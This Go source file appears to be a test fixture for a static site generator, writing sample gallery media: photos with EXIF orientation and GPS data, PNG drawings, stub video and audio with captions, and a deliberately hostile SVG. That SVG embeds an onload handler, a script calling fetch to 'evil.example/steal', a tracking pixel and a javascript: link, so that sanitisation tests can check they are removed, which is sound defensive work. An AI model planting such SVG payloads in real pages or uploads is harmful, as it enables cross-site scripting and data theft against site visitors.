package testsite

import (
	"bytes"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"testing"

	"github.com/natomongolia/timeline/generator/media/mediatest"
)

// The media files of the gallery fixture that carry something for tests
// to look for.
const (
	// GalleryPhoto is a 1600×2400 photograph stored 2400×1600 and turned
	// by its EXIF orientation (6), with a GPS position (mediatest.GPSText).
	GalleryPhoto = "media/harbour.jpg"
	// GallerySVG is an SVG drawing with scripts, event handlers and
	// external references (HostileMark in each).
	GallerySVG = "media/seal.svg"
	// HostileMark is in every part of GallerySVG that must not survive.
	HostileMark = "evil.example"
)

// Gallery returns a copy of the fixture site sites/gallery in a temporary
// folder, with its media files written (see WriteGallery).
func Gallery(tb testing.TB) string {
	tb.Helper()
	dir := filepath.Join(tb.TempDir(), "gallery")
	if err := WriteGallery(dir); err != nil {
		tb.Fatal(err)
	}
	return dir
}

// WriteGallery writes the gallery fixture into dir: its config and events
// from sites/gallery, and its media files, made here and the same every
// time: JPEG photographs (one turned by EXIF, with a GPS position), a PNG
// drawing with metadata, a decorative PNG, a hostile SVG, a video (an MP4
// header only: no browser plays it, and pages load none before a click)
// with a poster and captions, and a sound with captions.
func WriteGallery(dir string) error {
	if err := os.CopyFS(dir, os.DirFS(Fixture("gallery"))); err != nil {
		return err
	}
	photo := func(w, h int, seed uint64) []byte { return mediatest.JPEG(mediatest.Photo(w, h, seed), 90) }
	files := map[string][]byte{
		GalleryPhoto:                  mediatest.WithJPEGMetadata(photo(2400, 1600, 1), 6),
		"media/quays-still.jpg":       photo(1280, 720, 2),
		"media/documentary-still.jpg": photo(1920, 1080, 3),
		"media/fire-map.png":          mediatest.WithPNGMetadata(drawing(900, 600), 0),
		"media/ornament.png":          drawing(300, 60),
		GallerySVG:                    []byte(hostileSeal),
		"media/quays.mp4":             append([]byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"), make([]byte, 64)...),
		"media/quays.vtt":             []byte("WEBVTT\n\n00:00.000 --> 00:04.000\nCranes swing over the quay.\n"),
		"media/interview.mp3":         append([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), make([]byte, 64)...),
		"media/interview.vtt":         []byte("WEBVTT\n\n00:00.000 --> 00:05.000\nBefore the earthquake the quays were wood.\n"),
	}
	for name, data := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(path, data, 0o644); err != nil {
			return err
		}
	}
	return nil
}

// drawing returns a PNG of a few flat colours, as a map or a diagram is.
func drawing(w, h int) []byte {
	img := image.NewPaletted(image.Rect(0, 0, w, h), color.Palette{
		color.RGBA{0xf4, 0xf1, 0xe8, 0xff}, color.RGBA{0xb3, 0x26, 0x1e, 0xff}, color.RGBA{0x1a, 0x4f, 0x8b, 0xff},
	})
	for y := range h {
		for x := range w {
			switch {
			case (x/40+y/40)%5 == 0:
				img.SetColorIndex(x, y, 1)
			case y%60 < 3 || x%60 < 3:
				img.SetColorIndex(x, y, 2)
			}
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// hostileSeal is an SVG drawing with a script, event handlers and
// references to another server, around a drawing worth keeping.
const hostileSeal = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="240" viewBox="0 0 240 240" onload="alert('evil.example')">
  <script>fetch("https://evil.example/steal")</script>
  <style>.ring { stroke: #1a4f8b; background: url(https://evil.example/bg.png) }</style>
  <circle class="ring" cx="120" cy="120" r="100" fill="none" stroke-width="12"/>
  <path d="M120 50 V180 M80 150 Q120 200 160 150 M95 75 H145" stroke="#1a4f8b" stroke-width="12" fill="none" onclick="alert(1)"/>
  <image href="https://evil.example/tracker.png" width="1" height="1"/>
  <a xlink:href="javascript:alert('evil.example')"><text x="120" y="230" text-anchor="middle" font-size="16">Valparaíso</text></a>
</svg>
`
